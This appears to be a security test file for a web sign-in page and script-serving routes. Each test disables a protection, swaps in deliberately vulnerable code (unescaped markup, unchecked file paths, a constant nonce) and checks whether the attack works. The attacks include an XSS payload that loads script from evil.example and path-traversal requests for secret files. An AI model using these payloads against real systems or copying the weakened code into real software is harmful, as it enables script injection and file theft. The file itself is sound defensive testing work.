import { mkdirSync, mkdtempSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import type { Target } from "../target.ts";
import { guard, type Threat } from "../threat.ts";

/** A project with one of the SDK's packages installed, and with what nobody is to read. */
function makeProject(): { readonly project: string; readonly assets: string } {
  const project = mkdtempSync(join(tmpdir(), "tandem-project-"));
  const folder = join(project, "node_modules/@clerk/clerk-js");
  mkdirSync(join(folder, "dist"), { recursive: true });
  writeFileSync(join(folder, "package.json"), JSON.stringify({ version: "5.0.0", hidden: "manifest" }));
  writeFileSync(join(folder, "dist/clerk.browser.js"), "/* script */");
  writeFileSync(join(project, "secrets.json"), '"of the project"');
  symlinkSync(join(project, "secrets.json"), join(folder, "dist/link.json"));
  const assets = join(project, "assets");
  mkdirSync(assets);
  writeFileSync(join(assets, "main.js"), "/* page */");
  return { project, assets };
}

/** Made when this file is read; whoever does removes `project` afterwards. */
export const FILES = makeProject();

async function policyOf(target: Target, path: string): Promise<string> {
  return (await target.send({ path })).headers.get("content-security-policy") ?? "";
}

export const PAGES: readonly Threat[] = [
  {
    name: "puts the sign-in page into an invisible frame and has people click in it",
    guards: [
      guard("hosted/page.ts", "\"frame-ancestors 'none'\",", ""),
      guard("hosted/routes.ts", '["x-frame-options", "DENY"],', ""),
    ],
    options: FILES,
    async attempt(target) {
      const { headers } = await target.send({ path: "/sign-in" });
      const policy = headers.get("content-security-policy") ?? "";
      return !policy.includes("frame-ancestors 'none'") && headers.get("x-frame-options") !== "DENY";
    },
  },
  {
    name: "puts the inbox into a frame of theirs",
    guards: [guard("inbox/routes.ts", "; frame-ancestors 'none'", "")],
    attempt: async (target) => !(await policyOf(target, "/inbox")).includes("frame-ancestors 'none'"),
  },
  {
    name: "has a script of theirs run in the sign-in page",
    guards: [
      guard("hosted/page.ts", "script-src 'self' 'nonce-", "script-src 'unsafe-inline' 'self' 'nonce-"),
    ],
    options: FILES,
    attempt: async (target) => (await policyOf(target, "/sign-in")).includes("script-src 'unsafe-inline'"),
  },
  {
    name: "guesses the mark by which scripts of the sign-in page are known",
    guards: [
      guard("hosted/routes.ts", "const nonce = randomText(24, seams.random);", 'const nonce = "constant";'),
    ],
    options: FILES,
    async attempt(target) {
      const before = await policyOf(target, "/sign-in");
      return (await policyOf(target, "/sign-in")) === before;
    },
  },
  {
    name: "has the sign-in page send what is typed to a server of theirs",
    guards: [
      guard("hosted/page.ts", "\"form-action 'self'\",", ""),
      guard("hosted/page.ts", "\"default-src 'none'\",", ""),
    ],
    options: FILES,
    async attempt(target) {
      const policy = await policyOf(target, "/sign-in");
      return !policy.includes("form-action 'self'") || !policy.includes("default-src 'none'");
    },
  },
  {
    name: "writes markup into the application's name, for the sign-in page to run",
    guards: [
      guard(
        "hosted/page.ts",
        "const name = escapeHtml(settings.applicationName);",
        "const name = settings.applicationName;",
      ),
    ],
    options: FILES,
    async attempt(target) {
      await target.settings({ applicationName: '"><script src=//evil.example></script>' });
      return (await target.send({ path: "/sign-in" })).text.includes("<script src=//evil.example>");
    },
  },
  {
    name: "leaves the sign-in page's address, ticket and all, to the next site",
    guards: [guard("hosted/routes.ts", '["referrer-policy", "same-origin"],', "")],
    options: FILES,
    attempt: async (target) =>
      (await target.send({ path: "/sign-in" })).headers.get("referrer-policy") !== "same-origin",
  },
  {
    name: "climbs out of the folder of the page's files",
    guards: [
      guard(
        "hosted/routes.ts",
        "const path = files.get(name);",
        'const path = [assets, decodeURIComponent(name)].join("/");',
      ),
    ],
    options: FILES,
    attempt: async (target) =>
      (await target.send({ path: "/hosted/..%2fsecrets.json" })).text.includes("of the project"),
  },
  {
    name: "climbs out of the scripts' folder by dots",
    guards: [
      guard("genuine_scripts/installed_package.ts", "if (!PATH.test(path)) return null;", ""),
      guard(
        "genuine_scripts/installed_package.ts",
        "return file.startsWith((await realpath(dist)) + sep) ? file : null;",
        "return file;",
      ),
      guard(
        "genuine_scripts/routes.ts",
        "await distFile(installed, path)",
        "await distFile(installed, decodeURIComponent(path))",
      ),
    ],
    options: FILES,
    attempt: async (target) =>
      (await target.send({ path: "/npm/@clerk/clerk-js@5/dist/..%2fpackage.json" })).text.includes(
        "manifest",
      ),
  },
  {
    name: "follows a link that leads out of the scripts' folder",
    guards: [
      guard(
        "genuine_scripts/installed_package.ts",
        "return file.startsWith((await realpath(dist)) + sep) ? file : null;",
        "return file;",
      ),
    ],
    options: FILES,
    attempt: async (target) =>
      (await target.send({ path: "/npm/@clerk/clerk-js@5/dist/link.json" })).text.includes("of the project"),
  },
  {
    name: "asks for files of any other package that the project has installed",
    guards: [guard("genuine_scripts/routes.ts", "(@clerk\\/(?:clerk-js|ui))", "([^@]*@?[^@]+)")],
    options: FILES,
    async attempt(target) {
      const folder = join(FILES.project, "node_modules/private-package");
      mkdirSync(join(folder, "dist"), { recursive: true });
      writeFileSync(join(folder, "package.json"), '{"version":"1.0.0"}');
      writeFileSync(join(folder, "dist/config.json"), '"of another package"');
      return (await target.send({ path: "/npm/private-package@1/dist/config.json" })).text.includes(
        "of another package",
      );
    },
  },
];
